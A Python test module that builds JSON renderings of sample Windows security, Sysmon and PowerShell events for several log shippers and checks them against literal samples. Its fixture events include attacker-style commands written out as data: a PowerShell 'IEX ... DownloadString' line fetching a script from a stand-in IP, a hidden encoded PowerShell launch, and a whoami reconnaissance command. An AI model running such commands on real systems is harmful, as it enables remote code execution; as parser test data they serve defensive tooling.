"""Windows events as each shipper writes them: evtx_dump, XML-to-JSON, NXLog and Winlogbeat.

Each kind of event is written down once, as Windows renders it (System values and EventData text), and
each rendering is built from it the way that shipper lays it out: evtx_dump types its values, NXLog puts
EventData next to its own fields, Winlogbeat wraps it in ``winlog`` and adds ECS copies. The tests here
check the builders against samples written out in full, so the builders cannot drift from the real shape.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

COMPUTER = "WS042.corp.example.com"
SYSTEM_TIME = "2026-11-27T18:30:01.2500000Z"
SECURITY = "Microsoft-Windows-Security-Auditing"
SECURITY_GUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
SYSMON = "Microsoft-Windows-Sysmon"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL = "Microsoft-Windows-PowerShell"
POWERSHELL_CHANNEL = "Microsoft-Windows-PowerShell/Operational"


@dataclass(frozen=True)
class Kind:
    """One Windows event: its System part and its EventData as text (what XML and NXLog show)."""

    name: str
    eventid: int
    provider: str
    guid: str
    channel: str
    recordid: int
    level: int
    task: int
    opcode: int
    keywords: str
    task_name: str
    message: str
    data: dict[str, str]
    #: evtx_dump's typed values (numbers, booleans) for the fields the manifest types.
    typed: dict[str, Any] = field(default_factory=dict)
    #: NXLog's EventType / Severity for this event.
    nxlog_type: str = "AUDIT_SUCCESS"
    #: ECS fields Winlogbeat adds (copies of the event, which must never replace EventData).
    ecs: dict[str, Any] = field(default_factory=dict)


LOGON_4624 = Kind(
    name="4624",
    eventid=4624,
    provider=SECURITY,
    guid=SECURITY_GUID,
    channel="Security",
    recordid=1200456,
    level=0,
    task=12544,
    opcode=0,
    keywords="0x8020000000000000",
    task_name="Logon",
    message="An account was successfully logged on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0",
    data={
        "SubjectUserSid": "S-1-0-0",
        "SubjectUserName": "-",
        "SubjectDomainName": "-",
        "SubjectLogonId": "0x0",
        "TargetUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
        "TargetUserName": "alice",
        "TargetDomainName": "CORP",
        "TargetLogonId": "0x8a3f2c1",
        "LogonType": "3",
        "LogonProcessName": "NtLmSsp ",
        "AuthenticationPackageName": "NTLM",
        "WorkstationName": "LAPTOP-7",
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TransmittedServices": "-",
        "LmPackageName": "NTLM V2",
        "KeyLength": "128",
        "ProcessId": "0x0",
        "ProcessName": "-",
        "IpAddress": "192.0.2.10",
        "IpPort": "50832",
        "ImpersonationLevel": "%%1833",
        "VirtualAccount": "%%1843",
        "ElevatedToken": "%%1842",
    },
    typed={"LogonType": 3, "KeyLength": 128},
    ecs={"event": {"category": ["authentication"], "type": ["start"], "outcome": "success"}},
)

FAILED_4625 = Kind(
    name="4625",
    eventid=4625,
    provider=SECURITY,
    guid=SECURITY_GUID,
    channel="Security",
    recordid=1200457,
    level=0,
    task=12544,
    opcode=0,
    keywords="0x8010000000000000",
    task_name="Logon",
    message="An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-5-18",
    data={
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": "WS042$",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7",
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": "administrator",
        "TargetDomainName": "CORP",
        "Status": "0xc000006d",
        "FailureReason": "%%2313",
        "SubStatus": "0xc000006a",
        "LogonType": "10",
        "LogonProcessName": "User32 ",
        "AuthenticationPackageName": "Negotiate",
        "WorkstationName": "WS042",
        "TransmittedServices": "-",
        "LmPackageName": "-",
        "KeyLength": "0",
        "ProcessId": "0x1f4",
        "ProcessName": "C:\\Windows\\System32\\svchost.exe",
        "IpAddress": "203.0.113.50",
        "IpPort": "0",
    },
    typed={"LogonType": 10, "KeyLength": 0},
    nxlog_type="AUDIT_FAILURE",
    ecs={"event": {"category": ["authentication"], "type": ["start"], "outcome": "failure"}},
)

PROCESS_4688 = Kind(
    name="4688",
    eventid=4688,
    provider=SECURITY,
    guid=SECURITY_GUID,
    channel="Security",
    recordid=1200460,
    level=0,
    task=13312,
    opcode=0,
    keywords="0x8020000000000000",
    task_name="Process Creation",
    message="A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\tS-1-5-21-1104",
    data={
        "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
        "SubjectUserName": "alice",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x8a3f2c1",
        "NewProcessId": "0x1a2c",
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "TokenElevationType": "%%1936",
        "ProcessId": "0x12f0",
        "CommandLine": 'cmd.exe /c "whoami /all > %TEMP%\\w.txt"',
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-",
        "TargetDomainName": "-",
        "TargetLogonId": "0x0",
        "ParentProcessName": "C:\\Windows\\explorer.exe",
        "MandatoryLabel": "S-1-16-8192",
    },
    ecs={
        "process": {
            "pid": 6700,
            "executable": "C:\\Windows\\System32\\cmd.exe",
            "command_line": 'cmd.exe /c "whoami /all > %TEMP%\\w.txt"',
            "parent": {"executable": "C:\\Windows\\explorer.exe"},
        },
        "user": {"name": "alice", "domain": "CORP"},
    },
)

SYSMON_1 = Kind(
    name="sysmon1",
    eventid=1,
    provider=SYSMON,
    guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
    channel=SYSMON_CHANNEL,
    recordid=88231,
    level=4,
    task=1,
    opcode=0,
    keywords="0x8000000000000000",
    task_name="Process Create (rule: ProcessCreate)",
    message="Process Create:\r\nRuleName: -\r\nUtcTime: 2026-11-27 18:30:01.250",
    data={
        "RuleName": "-",
        "UtcTime": "2026-11-27 18:30:01.250",
        "ProcessGuid": "{b9d3a4c1-6b5d-6745-2a01-000000000700}",
        "ProcessId": "4242",
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "FileVersion": "10.0.19041.3996 (WinBuild.160101.0800)",
        "Description": "Windows PowerShell",
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": "PowerShell.EXE",
        "CommandLine": "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "CurrentDirectory": "C:\\Users\\alice\\",
        "User": "CORP\\alice",
        "LogonGuid": "{b9d3a4c1-6b2a-6745-c1f2-a30800000000}",
        "LogonId": "0x8a3f2c1",
        "TerminalSessionId": "1",
        "IntegrityLevel": "Medium",
        "Hashes": "SHA256=9F914D42706FE215501044ACD85A32D58AAEF1419D404FDDFA5D3B48F66CCD9F,"
        "IMPHASH=7C955A0ABC747F57CCC4324480737EF7",
        "ParentProcessGuid": "{b9d3a4c1-6b2b-6745-1a00-000000000700}",
        "ParentProcessId": "5120",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
        "ParentUser": "CORP\\alice",
    },
    typed={"ProcessId": 4242, "TerminalSessionId": 1, "ParentProcessId": 5120},
    nxlog_type="INFO",
    ecs={
        "process": {
            "pid": 4242,
            "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "command_line": "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            "parent": {"pid": 5120, "executable": "C:\\Windows\\explorer.exe"},
            "hash": {"sha256": "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f"},
        },
        "user": {"name": "alice", "domain": "CORP"},
        "event": {"category": ["process"], "type": ["start"]},
    },
)

SYSMON_3 = Kind(
    name="sysmon3",
    eventid=3,
    provider=SYSMON,
    guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
    channel=SYSMON_CHANNEL,
    recordid=88240,
    level=4,
    task=3,
    opcode=0,
    keywords="0x8000000000000000",
    task_name="Network connection detected (rule: NetworkConnect)",
    message="Network connection detected:\r\nRuleName: -\r\nUtcTime: 2026-11-27 18:30:01.250",
    data={
        "RuleName": "-",
        "UtcTime": "2026-11-27 18:30:00.981",
        "ProcessGuid": "{b9d3a4c1-6b5d-6745-2a01-000000000700}",
        "ProcessId": "4242",
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "User": "CORP\\alice",
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIsIpv6": "false",
        "SourceIp": "10.20.30.40",
        "SourceHostname": "WS042.corp.example.com",
        "SourcePort": "49822",
        "SourcePortName": "-",
        "DestinationIsIpv6": "false",
        "DestinationIp": "198.51.100.77",
        "DestinationHostname": "-",
        "DestinationPort": "443",
        "DestinationPortName": "https",
    },
    typed={
        "ProcessId": 4242,
        "Initiated": True,
        "SourceIsIpv6": False,
        "SourcePort": 49822,
        "DestinationIsIpv6": False,
        "DestinationPort": 443,
    },
    nxlog_type="INFO",
    ecs={
        "source": {"ip": "10.20.30.40", "port": 49822, "domain": "WS042.corp.example.com"},
        "destination": {"ip": "198.51.100.77", "port": 443},
        "network": {"transport": "tcp", "direction": "egress"},
        "user": {"name": "alice", "domain": "CORP"},
        "event": {"category": ["network"], "type": ["connection", "start"]},
    },
)

SCRIPT_4104 = Kind(
    name="4104",
    eventid=4104,
    provider=POWERSHELL,
    guid="{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
    channel=POWERSHELL_CHANNEL,
    recordid=5531,
    level=5,
    task=2,
    opcode=15,
    keywords="0x0",
    task_name="Execute a Remote Command",
    message="Creating Scriptblock text (1 of 1):\r\nIEX (New-Object Net.WebClient).DownloadString(...)",
    data={
        "MessageNumber": "1",
        "MessageTotal": "1",
        "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')",
        "ScriptBlockId": "5d2b0c5e-55a2-4b5f-9d6c-3a1b2f8e0a11",
        "Path": "C:\\Users\\alice\\Downloads\\setup.ps1",
    },
    typed={"MessageNumber": 1, "MessageTotal": 1},
    nxlog_type="VERBOSE",
)

KINDS = (LOGON_4624, FAILED_4625, PROCESS_4688, SYSMON_1, SYSMON_3, SCRIPT_4104)


def evtx_dump(kind: Kind) -> dict[str, Any]:
    """evtx_dump's JSON: ``#attributes``, typed values, named Data flattened into EventData."""
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": kind.provider, "Guid": kind.guid}},
                "EventID": kind.eventid,
                "Version": 2,
                "Level": kind.level,
                "Task": kind.task,
                "Opcode": kind.opcode,
                "Keywords": kind.keywords,
                "TimeCreated": {"#attributes": {"SystemTime": SYSTEM_TIME}},
                "EventRecordID": kind.recordid,
                "Correlation": {"#attributes": {"ActivityID": "{E1A7B6C2-1F0E-0003-9B2C-A8E1F01FDB01}"}},
                "Execution": {"#attributes": {"ProcessID": 636, "ThreadID": 3232}},
                "Channel": kind.channel,
                "Computer": COMPUTER,
                "Security": None,
            },
            "EventData": {**kind.data, **kind.typed},
        }
    }


def xml_json(kind: Kind) -> dict[str, Any]:
    """python-evtx's XML through xmltodict: ``@Name`` attributes, every value text, Data as a list."""
    return {
        "Event": {
            "@xmlns": "http://schemas.microsoft.com/win/2004/08/events/event",
            "System": {
                "Provider": {"@Name": kind.provider, "@Guid": kind.guid},
                "EventID": {"@Qualifiers": "", "#text": str(kind.eventid)},
                "Version": "2",
                "Level": str(kind.level),
                "Task": str(kind.task),
                "Opcode": str(kind.opcode),
                "Keywords": kind.keywords,
                "TimeCreated": {"@SystemTime": "2026-11-27 18:30:01.250000"},
                "EventRecordID": str(kind.recordid),
                "Correlation": None,
                "Execution": {"@ProcessID": "636", "@ThreadID": "3232"},
                "Channel": kind.channel,
                "Computer": COMPUTER,
                "Security": {"@UserID": "S-1-5-18"},
            },
            "EventData": {"Data": [{"@Name": name, "#text": value} for name, value in kind.data.items()]},
        }
    }


def nxlog(kind: Kind) -> dict[str, Any]:
    """im_msvistalog + to_json(): NXLog's fields and the EventData fields side by side."""
    severity = {"AUDIT_FAILURE": "ERROR", "VERBOSE": "DEBUG"}.get(kind.nxlog_type, "INFO")
    return {
        "EventTime": "2026-11-27 18:30:01",
        "Hostname": COMPUTER,
        "Keywords": -9214364837600034816,
        "EventType": kind.nxlog_type,
        "SeverityValue": 2,
        "Severity": severity,
        "EventID": kind.eventid,
        "SourceName": kind.provider,
        "ProviderGuid": kind.guid,
        "Version": 2,
        "Task": kind.task,
        "OpcodeValue": kind.opcode,
        "RecordNumber": kind.recordid,
        "ActivityID": "{E1A7B6C2-1F0E-0003-9B2C-A8E1F01FDB01}",
        "ProcessID": 636,
        "ThreadID": 3232,
        "Channel": kind.channel,
        "Message": kind.message,
        "Category": kind.task_name,
        "Opcode": "Info",
        **kind.data,
        "EventReceivedTime": "2026-11-27 18:30:02",
        "SourceModuleName": "eventlog",
        "SourceModuleType": "im_msvistalog",
    }


def winlogbeat(kind: Kind) -> dict[str, Any]:
    """Winlogbeat 8's ECS JSON: the event in ``winlog`` (event_id as text), ECS copies around it."""
    ecs = {key: value for key, value in kind.ecs.items() if key != "event"}
    return {
        "@timestamp": "2026-11-27T18:30:01.250Z",
        "agent": {"type": "winlogbeat", "version": "8.15.3", "name": "WS042"},
        "ecs": {"version": "8.0.0"},
        "host": {"name": "ws042.corp.example.com", "hostname": "WS042", "os": {"family": "windows"}},
        "log": {"level": "information" if kind.level in (0, 4) else "verbose"},
        "message": kind.message,
        "event": {
            "code": str(kind.eventid),
            "kind": "event",
            "provider": kind.provider,
            "action": kind.task_name,
            "created": "2026-11-27T18:30:02.114Z",
            **kind.ecs.get("event", {}),
        },
        "winlog": {
            "channel": kind.channel,
            "event_id": str(kind.eventid),
            "provider_name": kind.provider,
            "provider_guid": kind.guid,
            "computer_name": COMPUTER,
            "record_id": kind.recordid,
            "process": {"pid": 636, "thread": {"id": 3232}},
            "task": kind.task_name,
            "opcode": "Info",
            "keywords": ["Audit Success"],
            "api": "wineventlog",
            "event_data": dict(kind.data),
        },
        **ecs,
    }


RENDERINGS = {"evtx_dump": evtx_dump, "xml_json": xml_json, "nxlog": nxlog, "winlogbeat": winlogbeat}


def expected_data(kind: Kind) -> dict[str, Any]:
    """The canonical EventData fields: lower-case names, text values, ``logontype`` an int."""
    return {name.lower(): int(value) if name == "LogonType" else value for name, value in kind.data.items()}


# Written out in full, as the shippers wrote them, to keep the builders honest.
NXLOG_4625_LITERAL: dict[str, Any] = {
    "EventTime": "2026-11-27 18:30:01", "Hostname": "WS042.corp.example.com",
    "Keywords": -9214364837600034816, "EventType": "AUDIT_FAILURE", "SeverityValue": 4, "Severity": "ERROR",
    "EventID": 4625, "SourceName": "Microsoft-Windows-Security-Auditing",
    "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Version": 0, "Task": 12544,
    "OpcodeValue": 0, "RecordNumber": 1200457, "ActivityID": "{E1A7B6C2-1F0E-0003-9B2C-A8E1F01FDB01}",
    "ProcessID": 636, "ThreadID": 3232, "Channel": "Security",
    "Message": "An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-5-18",
    "Category": "Logon", "Opcode": "Info", "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS042$",
    "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7", "TargetUserSid": "S-1-0-0",
    "TargetUserName": "administrator", "TargetDomainName": "CORP", "Status": "0xc000006d",
    "FailureReason": "%%2313", "SubStatus": "0xc000006a", "LogonType": "10", "LogonProcessName": "User32 ",
    "AuthenticationPackageName": "Negotiate", "WorkstationName": "WS042", "TransmittedServices": "-",
    "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x1f4",
    "ProcessName": "C:\\Windows\\System32\\svchost.exe", "IpAddress": "203.0.113.50", "IpPort": "0",
    "EventReceivedTime": "2026-11-27 18:30:02", "SourceModuleName": "eventlog",
    "SourceModuleType": "im_msvistalog",
}  # fmt: skip

WINLOGBEAT_SYSMON_3_LITERAL: dict[str, Any] = {
    "@timestamp": "2026-11-27T18:30:01.250Z",
    "agent": {"type": "winlogbeat", "version": "8.15.3", "name": "WS042"},
    "ecs": {"version": "8.0.0"},
    "host": {"name": "ws042.corp.example.com", "hostname": "WS042", "os": {"family": "windows"}},
    "log": {"level": "information"},
    "message": "Network connection detected:\r\nRuleName: -\r\nUtcTime: 2026-11-27 18:30:01.250",
    "event": {
        "code": "3", "kind": "event", "provider": "Microsoft-Windows-Sysmon",
        "action": "Network connection detected (rule: NetworkConnect)", "created": "2026-11-27T18:30:02.114Z",
        "category": ["network"], "type": ["connection", "start"],
    },
    "winlog": {
        "channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "3",
        "provider_name": "Microsoft-Windows-Sysmon",
        "provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "computer_name": "WS042.corp.example.com", "record_id": 88240,
        "process": {"pid": 636, "thread": {"id": 3232}},
        "task": "Network connection detected (rule: NetworkConnect)",
        "opcode": "Info", "keywords": ["Audit Success"], "api": "wineventlog",
        "event_data": {
            "RuleName": "-", "UtcTime": "2026-11-27 18:30:00.981",
            "ProcessGuid": "{b9d3a4c1-6b5d-6745-2a01-000000000700}", "ProcessId": "4242",
            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "User": "CORP\\alice",
            "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.20.30.40",
            "SourceHostname": "WS042.corp.example.com", "SourcePort": "49822", "SourcePortName": "-",
            "DestinationIsIpv6": "false", "DestinationIp": "198.51.100.77", "DestinationHostname": "-",
            "DestinationPort": "443", "DestinationPortName": "https",
        },
    },
    "source": {"ip": "10.20.30.40", "port": 49822, "domain": "WS042.corp.example.com"},
    "destination": {"ip": "198.51.100.77", "port": 443},
    "network": {"transport": "tcp", "direction": "egress"},
    "user": {"name": "alice", "domain": "CORP"},
}  # fmt: skip


def test_the_nxlog_builder_writes_what_nxlog_writes() -> None:
    built = nxlog(FAILED_4625)
    built["SeverityValue"] = 4
    built["Version"] = 0
    assert built == NXLOG_4625_LITERAL
    assert list(built) == list(NXLOG_4625_LITERAL)


def test_the_winlogbeat_builder_writes_what_winlogbeat_writes() -> None:
    assert winlogbeat(SYSMON_3) == WINLOGBEAT_SYSMON_3_LITERAL


def test_every_kind_has_a_sample_per_rendering() -> None:
    assert {kind.name for kind in KINDS} == {"4624", "4625", "4688", "sysmon1", "sysmon3", "4104"}
    for kind in KINDS:
        assert set(kind.typed) <= set(kind.data)
        for build in RENDERINGS.values():
            assert build(kind)
